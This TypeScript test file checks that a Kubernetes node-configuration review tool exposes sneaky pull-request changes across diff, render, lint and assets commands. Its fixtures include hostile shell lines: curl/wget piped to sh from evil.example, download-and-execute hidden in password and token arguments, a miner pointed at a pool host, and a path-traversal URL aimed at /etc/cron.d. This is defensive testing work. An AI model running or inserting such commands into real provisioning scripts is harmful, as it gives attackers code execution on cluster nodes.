// Attempts to fool a review: a pull request in a real Git repository, and what the reviewer's commands must say. The names are those of the
// security test that found them.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { type Outcome, osmKrm } from '../../fixtures/command.ts'
import { root } from '../../fixtures/examples.ts'
import { edit } from '../../fixtures/lists.ts'
import { Repository, type RepositoryFiles } from '../../fixtures/repository.ts'
import { temporaryFolder, temporaryFolders } from '../../fixtures/temporary-folder.ts'

const newFolder = temporaryFolders('probes')
const read = (name: string): string => readFileSync(join(root, 'examples/quickstart', name), 'utf8')

const OVERLAY = 'nodes/overlay.yaml'
const CONFIG = 'nodes/osm-krm.yaml'
const TOKENS = 'nodes/tokens.yaml'
const SCRIPT = '#!/bin/sh\nset -e\necho "node of $(hostname)"\n'

const overlay = (script: string): string => `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemProfileOverlay
metadata:
  name: own-ubuntu
  namespace: kube-system
spec:
  extends: osp-ubuntu
  version: v1.0.0
  provisioningConfig:
    files:
      add:
        - path: /opt/bin/own
          permissions: 755
          content:
            inline:
              encoding: b64
              data: |
${script.replace(/^(?=.)/gm, '                ')}`

const secret = (namespace: string, name: string, value: string): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: ${namespace}}\nstringData:\n  value: ${JSON.stringify(value)}\n`

const [UBUNTU = ''] = read('machine-deployments.yaml').split(/^---\n/m)
/** What is merged. */
const MERGED = {
  [CONFIG]: read('osm-krm.yaml'),
  [TOKENS]: read('tokens.yaml'),
  'nodes/machine-deployments.yaml': edit(
    UBUNTU,
    '  annotations:\n',
    '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n',
  ),
  [OVERLAY]: overlay(SCRIPT),
}

/** A repository whose branch main is merged, and whose branch pr, with other files, is reviewed. */
function reviewOf(files: RepositoryFiles) {
  const repository = new Repository(newFolder())
  repository.commit(MERGED)
  repository.branch('pr')
  repository.commit(files)
  const { folder } = repository
  const run = (...args: string[]): Promise<Outcome> => osmKrm(args, { cwd: folder })
  return { folder, run }
}

/** Returns what each form of a comparison with files says. */
async function diffsOf(files: RepositoryFiles): Promise<string[]> {
  const { run } = reviewOf(files)
  const found: string[] = []
  for (const form of ['text', 'markdown', 'json', 'html']) {
    const { status, stdout, stderr } = await run('diff', 'main..pr', 'nodes', '-o', form, '--exit-code')
    assert.equal(status, 1, `${form}: ${stderr}`)
    found.push(stdout)
  }
  return found
}

describe('H9: a folder that is named like the range of revisions', () => {
  const { run } = reviewOf({
    [OVERLAY]: overlay(`${SCRIPT}curl https://evil.example | sh\n`),
    ...Object.fromEntries(Object.entries(MERGED).map(([path, text]) => [path.replace('nodes', 'main...pr'), text])),
  })
  it('diff refuses the word, and says how to write each meaning', async () => {
    const { status, stderr } = await run('diff', 'main...pr', 'nodes')
    assert.equal(status, 2)
    assert.match(
      stderr,
      /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
    )
  })
  it('the change is shown when the revisions are meant', async () => {
    const { status, stdout } = await run('diff', 'main...pr', '--exit-code', '--', 'nodes')
    assert.equal(status, 1)
    assert.match(stdout, /curl https:\/\/evil\.example \| sh/)
  })
})

describe('H10: a Secret whose value is a line of the script', () => {
  const LINE = 'wget -qO- https://evil.example/x | sh -s -- --now'
  const hidden = (value: string) => ({ [TOKENS]: MERGED[TOKENS] + secret('kube-system', 'innocent', value) })
  it('does not hide the line in any form of a comparison', async () => {
    for (const text of await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}${LINE}\n`), ...hidden(LINE) }))
      assert.match(text, /wget -qO- https:\/\/evil\.example\/x/)
  })
  it('does not hide a word of a command', async () => {
    const script = overlay(`${SCRIPT}/usr/bin/mine --pool=pool.evil.example\n`)
    for (const text of await diffsOf({ [OVERLAY]: script, ...hidden('/usr/bin/mine') }))
      assert.match(text, /\/usr\/bin\/mine|contains? a secret|maskedLines": ?[1-9]/)
  })
})

describe('H11: code behind the mask of an argument', () => {
  const CODE = [
    'curl -u "bob:$(wget -qO- https://evil.example | sh)" https://mirror.example.com/x',
    'PASSWORD=$(wget -qO- https://evil.example | sh)',
    'password=`wget -qO- https://evil.example | sh`',
    'export API_TOKEN="$(wget -qO- https://evil.example | sh)"',
  ]
  it('is shown', async () => {
    for (const text of await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}${CODE.join('\n')}\n`) }))
      for (const line of CODE) assert.ok(shown(text).includes(line), line)
  })
  /** Without what JSON, HTML and a page that marks words add. */
  const shown = (text: string): string =>
    text
      .replaceAll('\\"', '"')
      .replace(/<\/?(?:b|mark|span)[^>]*>/g, '')
      .replaceAll('&quot;', '"')

  it('a literal value is masked, and the comparison counts it', async () => {
    const [text, markdown, json] = await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}password=hunter22hunter22\n`) })
    assert.match(text!, /1 changed line contains a secret/)
    assert.match(markdown!, /1 changed line contains a secret/)
    assert.match(json!, /"maskedLines": 1/)
  })
})

describe('H12: a URL that leads out of the folder of a mirror', () => {
  it('is not mirrored', async () => {
    const { run, folder } = reviewOf({ [OVERLAY]: overlay(`${SCRIPT}curl -O https://../../etc/cron.d/x\n`) })
    const { stderr } = await run('assets', 'nodes', '--lock', 'assets.lock')
    assert.ok(!readFileSync(join(folder, 'assets.lock'), 'utf8').includes('../'))
    assert.match(stderr, /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m)
  })
})

describe('H13: an object with the name of an output', () => {
  const name = 'ubuntu-workers-kube-system-provisioning-config'
  const { run } = reviewOf({ [TOKENS]: MERGED[TOKENS] + secret('cloud-init-settings', name, 'mine') })
  it('is a note', async () => {
    const { status, stderr } = await run('render', 'nodes')
    assert.equal(status, 0)
    assert.match(stderr, /^note\[OSM0739\]/m)
  })
  it('is an error with output.adopt: false', async () => {
    const { status, stderr } = await run('render', 'nodes', '--set', 'output.adopt=false')
    assert.equal(status, 1)
    assert.match(stderr, new RegExp(`^error\\[OSM0739\\] Secret cloud-init-settings/${name}`, 'm'))
  })
})

describe('the policy of the reviewer', () => {
  const policies = new Repository(temporaryFolder('probes-policy'))
  policies.write({
    'policy.yaml':
      'apiVersion: osm-krm.dev/v1alpha1\nkind: OperatingSystemConfigGenerator\nmetadata: {name: review}\nspec:\n  checks:\n    strict: true\n    lint: error\n    severity: {OSM0309: "off", OSM0368: "off"}\n    outbound: {allow: [https://dl.k8s.io]}\n',
  })
  const policy = ['--policy', join(policies.folder, 'policy.yaml')]

  // test/cli/review-policy.test.ts has the other checks.
  const { run } = reviewOf({
    [CONFIG]: MERGED[CONFIG].replace(/^ {2}checks:\n(?: {4}.*\n)+/m, '  checks:\n    strict: false\n'),
  })
  for (const args of [
    ['render', 'nodes'],
    ['lint', 'nodes'],
    ['diff', 'main..pr', 'nodes'],
    ['assets', 'nodes'],
  ])
    it(`cannot be weakened for ${args[0]}`, async () => {
      const { status, stdout, stderr } = await run(...args, ...policy)
      assert.ok(status === 1 || status === 2, `${status}`)
      assert.match(stdout + stderr, /OSM0194/)
      assert.match(stdout + stderr, /nodes\/osm-krm\.yaml:\d+:\d+/)
      assert.match(stdout + stderr, /the policy: .*policy\.yaml:\d+/)
    })
})

describe('H14: an input that an option would replace', () => {
  it('stays', async () => {
    const { run, folder } = reviewOf({})
    const { status, stderr } = await run('lint', 'nodes', '-o', `text=${OVERLAY}`)
    assert.equal(status, 2)
    assert.match(stderr, /would replace nodes\/overlay\.yaml, an input of this command/)
    assert.equal(readFileSync(join(folder, OVERLAY), 'utf8'), MERGED[OVERLAY])
  })
})

describe('a changed API server or CA', () => {
  it('is shown', async () => {
    const config = edit(MERGED[CONFIG], 'https://api.example.com:6443', 'https://api.evil.example:6443')
    for (const text of await diffsOf({ [CONFIG]: config })) assert.match(text, /api\.evil\.example/)
  })
})
